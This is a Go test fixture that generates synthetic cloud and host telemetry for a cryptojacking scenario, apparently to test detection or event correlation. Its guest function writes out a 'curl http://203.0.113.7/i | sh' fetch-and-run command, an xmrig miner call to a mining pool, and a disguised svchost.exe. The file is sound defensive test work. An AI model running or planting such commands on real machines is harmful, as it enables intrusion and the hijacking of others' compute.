package partition_test

import (
	"fmt"
	"net/netip"

	"tidewaiter/event"
	"tidewaiter/image"
)

// machines tells of a few machines of one account of a cloud: who made their
// images, who launched, changed and ended them, what their guests and the
// network saw. Each record is there or missing; names, addresses and interfaces
// are given again.
func (w *worldMaker) machines(n int) {
	rng := w.rng
	w.account, w.host, w.cluster = "a", "", ""
	defer func() { w.account, w.region = "", "" }()
	images := []image.VM{"ami-good", "ami-evil", "ami-own", ""}
	w.images(images)
	for m := range n {
		w.machine(m, images[rng.IntN(len(images))])
	}
}

func (w *worldMaker) someone() event.Principal {
	return []event.Principal{
		{Name: "ann", Cloud: &event.CloudIdentity{Type: "IAMUser", Account: "a", Console: true}},
		{Name: "ci/run-1", Cloud: &event.CloudIdentity{Issuer: "ci", Account: "a"}},
		{Name: "asg", Cloud: &event.CloudIdentity{Service: "autoscaling.amazonaws.com", Account: "a"}},
		{Name: "factory", Cloud: &event.CloudIdentity{Account: "a"}},
	}[w.rng.IntN(4)]
}

func (w *worldMaker) images(ids []image.VM) {
	w.region = "r"
	for _, id := range ids[:3] {
		at := epoch - int64(w.rng.IntN(3600))*event.Second
		if w.maybe(50) {
			w.add(event.EC2, 0, 1, &event.VMImage{Action: event.VMImageDescribe, ID: id, Owner: map[image.VM]string{"ami-good": "good", "ami-evil": "stranger", "ami-own": "a"}[id],
				Public: id == "ami-evil", Created: event.Time{At: epoch - 86400*event.Second, Res: event.Second}})
		}
		if w.maybe(30) {
			w.add(event.CloudTrail, at, event.Second, &event.VMImage{Action: []event.VMImageAction{event.VMImageCreate, event.VMImageRegister, event.VMImageCopy}[w.rng.IntN(3)], ID: id, Parent: ids[w.rng.IntN(3)], By: w.someone()})
		}
		if w.maybe(20) {
			w.add(event.CloudTrail, at+60*event.Second, event.Second, &event.VMImage{Action: event.VMImageShare, ID: id, Public: w.maybe(50), To: []string{[]string{"all", "account:b"}[w.rng.IntN(2)]}, By: w.someone()})
		}
		if w.maybe(20) {
			w.add(event.CloudTrail, at+90*event.Second, event.Second, &event.VMImage{Action: event.VMImageTag, ID: id, Tags: map[string]string{"golden": "true"}, By: w.someone()})
		}
	}
}

// machine tells of one machine.
func (w *worldMaker) machine(n int, img image.VM) {
	rng := w.rng
	w.region = []string{"r", "far"}[rng.IntN(2)]
	at := epoch + int64(rng.IntN(1800))*event.Second
	id := fmt.Sprintf("i-%d", n)
	addr := netip.AddrFrom4([4]byte{10, 0, 0, byte(2 + rng.IntN(2))})
	part := fmt.Sprintf("eni-%d", rng.IntN(3))
	by, group := w.someone(), []string{"", "", "web"}[rng.IntN(3)]
	told := func(action event.InstanceAction, at int64) *event.Instance {
		b := &event.Instance{Action: action, ID: id, Image: img, By: by, Group: group, Type: []string{"m5.large", "p3.2xlarge"}[rng.IntN(2)], Call: fmt.Sprint("call-", n/2)}
		w.add(event.CloudTrail, at, event.Second, b)
		return b
	}
	if w.maybe(30) {
		told(event.InstanceLaunch, at-event.Second*30).Failure = "Client.DryRunOperation"
	}
	if w.maybe(30) && group != "" {
		w.add(event.CloudTrail, at-60*event.Second, event.Second, &event.Instance{Action: event.InstanceGroup, Group: group, By: w.someone()})
	}
	if w.maybe(85) {
		b := told(event.InstanceLaunch, at)
		b.Resource = fmt.Sprint("/vm/", rng.IntN(2))
		b.Interfaces = []event.VMInterface{{ID: part, Network: fmt.Sprint("vpc-", rng.IntN(2)), Addrs: []netip.Addr{addr}}}
	}
	booted := at
	if w.maybe(30) {
		booted = at + int64(rng.IntN(6000))*event.Second
		by = w.someone()
		told(event.InstanceUserData, booted-10*event.Second)
		told(event.InstanceStart, booted)
	}
	if w.maybe(20) { // told by its name alone
		w.add(event.Azure, at+30*event.Second, event.Millisecond, &event.Instance{Action: event.InstanceExtension, Resource: fmt.Sprint("/vm/", rng.IntN(2)), Extension: "CustomScript", By: w.someone()})
	}
	w.guest(id, addr, booted)
	w.seen(id, part, addr, booted)
	if w.maybe(40) {
		told(event.InstanceTerminate, at+int64(rng.IntN(9000))*event.Second)
	}
}

// guest tells what the machine's own records say.
func (w *worldMaker) guest(id string, addr netip.Addr, booted int64) {
	region := w.region
	w.host, w.region = fmt.Sprint("vm-", w.rng.IntN(2)), ""
	defer func() { w.host, w.region = "", region }()
	if w.maybe(50) {
		d := &event.HostDescription{Addrs: []netip.Addr{addr}}
		if w.maybe(70) {
			d.InstanceID = id
		}
		w.add(event.Inventory, 0, 1, d)
	}
	if w.maybe(40) {
		w.add(event.CloudInit, booted+20*event.Second, event.Second, &event.GuestScript{Stage: event.GuestBoot, Agent: "cloud-init", Boot: event.Time{At: booted + 10*event.Second, Res: event.Second}, Addrs: []netip.Addr{addr}})
	}
	if w.maybe(40) {
		w.add(event.CloudInit, booted+30*event.Second, event.Second, &event.GuestScript{Stage: event.GuestTraced, Agent: "cloud-init", Commands: []string{"curl http://203.0.113.7/i | sh"}})
	}
	if w.maybe(20) {
		w.add(event.UserDump, 0, 1, &event.GuestScript{Stage: event.GuestStored, Agent: "cloud-init", Commands: []string{"curl http://203.0.113.7/i | sh"}})
	}
	if w.maybe(60) {
		w.exec(booted+40*event.Second, 900, 800, "/bin/sh", []string{"/bin/sh", "-c", "curl http://203.0.113.7/i | sh"}, "08:01")
		w.exec(booted+50*event.Second, 901, 900, "/usr/bin/xmrig", []string{"xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444"}, "08:01")
	}
	if w.maybe(30) {
		w.add(event.Sysmon, booted+60*event.Second, event.Millisecond, &event.Process{PID: 910, Exe: `C:\Users\Public\svchost.exe`, Args: []string{`C:\Users\Public\svchost.exe`}, UID: -1, AUID: -1})
		w.add(event.Sysmon, booted+61*event.Second, event.Millisecond, &event.DNS{PID: 910, Query: "pool.minexmr.com", Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.66")}, Code: "NOERROR"})
		w.add(event.Sysmon, booted+62*event.Second, event.Millisecond, &event.Socket{PID: 910, Addr: netip.MustParseAddrPort("203.0.113.66:3333"), Success: true, UID: -1, AUID: -1})
	}
}

// seen tells what the cloud's network saw of it.
func (w *worldMaker) seen(id, part string, addr netip.Addr, booted int64) {
	rng := w.rng
	w.region = ""
	for range rng.IntN(4) {
		f := &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(addr, uint16(40000+rng.IntN(100))), Answered: true,
			Dst: netip.MustParseAddrPort([]string{"203.0.113.66:3333", "198.51.100.20:443", "203.0.113.9:443"}[rng.IntN(3)])}
		switch rng.IntN(3) {
		case 0:
			f.Seen = &event.VMRef{Interface: part}
		case 1:
			f.SrcVM = &event.VMRef{ID: id}
		}
		w.add(event.VPCFlow, booted+int64(rng.IntN(9000))*event.Second, event.Second, f)
	}
}
